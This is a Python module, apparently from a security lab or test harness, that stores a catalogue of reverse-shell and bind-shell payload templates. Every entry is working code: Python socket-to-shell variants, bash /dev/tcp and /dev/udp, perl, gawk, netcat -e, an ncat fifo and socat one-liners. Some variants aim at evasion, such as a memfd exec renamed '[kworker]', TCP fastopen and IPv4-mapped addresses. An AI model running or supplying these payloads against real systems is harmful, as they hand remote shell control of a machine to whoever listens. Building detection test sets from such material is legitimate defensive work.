"""Programs that give a shell to who answers their call, one for each shape.

Rule of this file: text for other programs; ``{host}``, ``{port}`` and ``{fifo}`` stand for what ``attacks`` puts there.
Each ends when the peer says ``exit``.
"""

from __future__ import annotations

CALLING = """\
import os, socket
s = socket.socket()
s.connect(("{host}", {port}))
"""
ONTO = """\
for n in (0, 1, 2):
    os.dup2(s.fileno(), n)
"""
SHELL = """\
os.execv("/bin/sh", ["sh"])
"""
FCNTL = """\
import fcntl
for n in (0, 1, 2):
    os.close(n)
    os.set_inheritable(fcntl.fcntl(s.fileno(), fcntl.F_DUPFD, n), True)
"""
PASSED = """\
a, b = socket.socketpair()
if os.fork():
    socket.send_fds(a, [b"x"], [s.fileno()])
    s.close()
    os.wait()
    os._exit(0)
_, passed, _, _ = socket.recv_fds(b, 1, 1)
for n in (0, 1, 2):
    os.dup2(passed[0], n)
"""
DELAYED = """\
s.recv(5)
for n in (0, 1, 2):
    os.dup2(s.fileno(), n)
os.execv("/bin/sh", ["sh", "-c", "exit"])
"""
PIPES = """\
import subprocess
shell = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
s.sendall(shell.communicate(s.recv(5))[0])
"""
PTY = """\
import pty
pty.spawn("/bin/sh")
"""
COMMANDS = """\
import subprocess
s.sendall(subprocess.run(s.recv(5), shell=True, capture_output=True).stdout)
"""
NO_EXEC = """\
if s.recv(5):
    s.sendall(os.uname().sysname.encode())
"""
FASTOPEN = """\
import os, socket
s = socket.socket()
s.sendto(b"x", socket.MSG_FASTOPEN, ("{host}", {port}))
"""
MAPPED = """\
import os, socket
s = socket.socket(socket.AF_INET6)
s.connect(("::ffff:{host}", {port}))
"""
MPTCP = """\
import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
s.connect(("{host}", {port}))
"""
MEMFD = """\
f = os.memfd_create("x")
os.sendfile(f, os.open("/bin/sh", os.O_RDONLY), 0, 1 << 27)
os.execve(f, ["[kworker]"], os.environ)
"""
UNIX = """\
import os, socket
s = socket.socket(socket.AF_UNIX)
s.connect("\\0callout-lab-relay")
"""
PYTHON = {
    "rev_python": CALLING + ONTO + SHELL,
    "rev_fcntl": CALLING + FCNTL + SHELL,
    "rev_passed": CALLING + PASSED + SHELL,
    "rev_delayed": CALLING + DELAYED,
    "rev_pipes": CALLING + PIPES,
    "rev_pty": CALLING + ONTO + PTY,
    "rev_commands": CALLING + COMMANDS,
    "rev_no_exec": CALLING + NO_EXEC,
    "rev_fastopen": FASTOPEN + ONTO + SHELL,
    "rev_mapped": MAPPED + ONTO + SHELL,
    "rev_mptcp": MPTCP + ONTO + SHELL,
    "rev_memfd": CALLING + ONTO + MEMFD,
    "rev_unix": UNIX + ONTO + SHELL,
}
BIND = """\
import os, socket
server = socket.create_server(("127.0.0.1", 8950))
print(flush=True)
s, _ = server.accept()
for n in (0, 1, 2):
    os.dup2(s.fileno(), n)
os.execv("/bin/sh", ["sh"])
"""
ANSWER = """\
import socket, sys
server = socket.socket(fileno=int(sys.argv[1]))
_, caller = server.recvfrom(64)
server.sendto(b"exit\\n", caller)
"""
AWK = """\
BEGIN {{ s = "/inet/tcp/0/{host}/{port}"; s |& getline c
if (c != "exit") while ((c | getline x) > 0) print x |& s
close(s) }}"""
PERL = """\
use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in({port}, inet_aton("{host}")))
&& do {{ open(STDIN, "<&S"); open(STDOUT, ">&S"); exec("/bin/sh") }}"""
UDP = "exec 3<>/dev/udp/{host}/{port}; echo >&3; $(dd bs=64 count=1 status=none <&3)"

# What must be installed, and the command
PROGRAMS: dict[str, tuple[str, list[str]]] = {
    "rev_bash": ("bash", ["bash", "-c", "exec 3<>/dev/tcp/{host}/{port}; exec sh <&3 >&3"]),
    "rev_bash_child": ("bash", ["bash", "-c", "sh <>/dev/tcp/{host}/{port} >&0; true"]),
    "rev_bash_udp": ("bash", ["bash", "-c", UDP]),
    "rev_perl": ("perl", ["perl", "-e", PERL]),
    "rev_gawk": ("gawk", ["gawk", AWK]),
    "rev_nc_e": ("nc.traditional", ["nc.traditional", "-e", "/bin/sh", "{host}", "{port}"]),
    "rev_ncat_e": ("ncat", ["ncat", "-e", "/bin/sh", "{host}", "{port}"]),
    "rev_nc_fifo": (
        "nc.openbsd",
        ["sh", "-c", "mkfifo $0; sh <$0 | nc.openbsd -N {host} {port} >$0; rm $0", "{fifo}"],
    ),
    "rev_socat": ("socat", ["socat", "tcp:{host}:{port}", "exec:/bin/sh"]),
    "rev_socat_pty": ("socat", ["socat", "tcp:{host}:{port}", "exec:/bin/sh,pty,stderr"]),
}
